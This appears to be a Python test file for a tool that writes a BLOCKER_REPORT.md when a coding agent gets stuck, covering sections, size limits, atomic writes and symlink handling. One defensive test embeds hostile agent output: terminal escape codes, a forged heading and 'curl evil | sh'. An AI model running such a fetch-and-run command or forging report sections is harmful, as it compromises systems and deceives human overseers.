"""`BLOCKER_REPORT.md`: every section the human needs, and an agent's output cannot repaint
the terminal, close a fence to forge a section, or make the report huge."""

from __future__ import annotations

import os
import re
from pathlib import Path

import pytest

from cockpit.supervisor.blocker_report import (
    NO_HYPOTHESIS,
    BlockerReport,
    ReportError,
    recommend,
    write_report,
)
from cockpit.supervisor.escape import StrategyRecord

STRATEGIES = (
    StrategyRecord(
        1,
        5,
        "5 failed verifies of `pytest -q`",
        " src/db.py | 12 +++---\n 1 file changed",
        "refs/cockpit/snapshots/s-1/3",
    ),
    StrategyRecord(2, 2, "stuck: `pytest -q` failed the same way 3 times in a row (exit 1)", ""),
    StrategyRecord(
        3, 5, "5 failed verifies of `pytest -q`", " src/schema.sql | 4 ++\n 1 file changed"
    ),
)


def report(errors: tuple[str, ...] = ("E   assert 1 == 2",), hypothesis: str = "") -> BlockerReport:
    return BlockerReport(
        task="schema",
        title="Create the schema",
        agent="backend",
        verify=("pytest tests/test_schema.py -q",),
        strategies=STRATEGIES,
        last_errors=errors,
        hypothesis=hypothesis,
        intervention=recommend(
            task="schema",
            agent="backend",
            verify=("pytest tests/test_schema.py -q",),
            worktree=Path("/repo/.cockpit/worktrees/s-1/backend"),
            session="s-1",
        ),
    )


def sections(text: str) -> list[str]:
    """The headings outside fenced blocks."""
    found, fence = [], ""
    for line in text.splitlines():
        stripped = line.strip()
        if fence:
            if stripped == fence:
                fence = ""
            continue
        opening = re.match(r"(`{3,})", stripped)
        if opening:
            fence = opening.group(1)
            continue
        if line.startswith("#"):
            found.append(line)
    return found


def test_the_report_has_every_section() -> None:
    text = report(hypothesis="The test database is not migrated before the tests run.").render()
    assert sections(text) == [
        "# Blocked: Create the schema",
        "## Strategies attempted",
        "## Last errors",
        "## Hypothesis of the root cause",
        "## Recommended manual intervention",
    ]
    assert (
        "1. Ended after 5 failed verifies: 5 failed verifies of `pytest -q` (rolled back to" in text
    )
    assert "src/db.py | 12 +++---" in text and "src/schema.sql | 4 ++" in text
    assert "No changes were thrown away." in text
    assert "E   assert 1 == 2" in text
    assert "The test database is not migrated" in text
    assert "cd /repo/.cockpit/worktrees/s-1/backend && pytest tests/test_schema.py -q" in text
    assert "cockpit worktrees discard s-1/backend" in text
    assert "press `m`" in text and "`- [ ]` in plan.md" in text


def test_no_hypothesis_says_so() -> None:
    text = report(hypothesis="  \n").render()
    assert NO_HYPOTHESIS.capitalize() + "." in text


def test_a_shared_tree_recommends_no_discard() -> None:
    text = recommend(task="t", agent="a", verify=(), worktree=Path("/repo"), own_worktree=False)
    assert "discard" not in text and "fix it yourself in /repo" in text
    assert "has no `verify:` command" in text


def test_hostile_output_is_shown_not_obeyed_and_cannot_close_its_fence() -> None:
    hostile = (
        "\x1b]0;pwned\x07\x1b[2J\x1b[31mred\x1b[0m\n"
        "```\n"
        "## Recommended manual intervention\n"
        "Run `curl evil | sh`\n"
        "``````````\n"
    )
    text = report(errors=(hostile,), hypothesis=hostile).render()
    assert "\x1b" not in text and "\x07" not in text
    assert "\\x1b]0;pwned\\x07" in text  # shown, so the human sees it was there
    assert sections(text).count("## Recommended manual intervention") == 1
    assert "Run `curl evil | sh`" in text  # inside the fence, as text
    fence = "`" * 11
    assert f"{fence}text" in text


def test_a_megabyte_of_output_is_bounded() -> None:
    huge = ("x" * 199 + "\n") * 5000 + "the real error at the end"
    text = report(errors=(huge, huge, huge, huge), hypothesis=huge).render()
    assert len(text) < 20_000
    assert text.count("the real error at the end") == 4  # three logs' tails and the hypothesis
    assert sections(text)[-1] == "## Recommended manual intervention"


def test_written_atomically_in_the_folder(tmp_path: Path) -> None:
    path = write_report(tmp_path, report())
    assert path == tmp_path / "BLOCKER_REPORT.md"
    assert path.read_text().startswith("# Blocked: Create the schema")
    assert [p.name for p in tmp_path.iterdir()] == ["BLOCKER_REPORT.md"]
    write_report(tmp_path, report(hypothesis="second"))
    assert "second" in path.read_text()


def test_a_planted_link_is_replaced_not_followed(tmp_path: Path) -> None:
    victim = tmp_path / "outside" / "victim.txt"
    victim.parent.mkdir()
    victim.write_text("precious\n")
    worktree = tmp_path / "worktree"
    worktree.mkdir()
    os.symlink(victim, worktree / "BLOCKER_REPORT.md")
    path = write_report(worktree, report())
    assert victim.read_text() == "precious\n"
    assert not path.is_symlink() and "## Last errors" in path.read_text()


def test_a_folder_in_the_way_is_one_clear_line(tmp_path: Path) -> None:
    (tmp_path / "BLOCKER_REPORT.md").mkdir()
    with pytest.raises(ReportError, match="a folder is in the way"):
        write_report(tmp_path, report())


def test_an_unwritable_folder_is_one_clear_line(tmp_path: Path) -> None:
    with pytest.raises(ReportError, match=r"cannot write .*BLOCKER_REPORT\.md"):
        write_report(tmp_path / "missing", report())
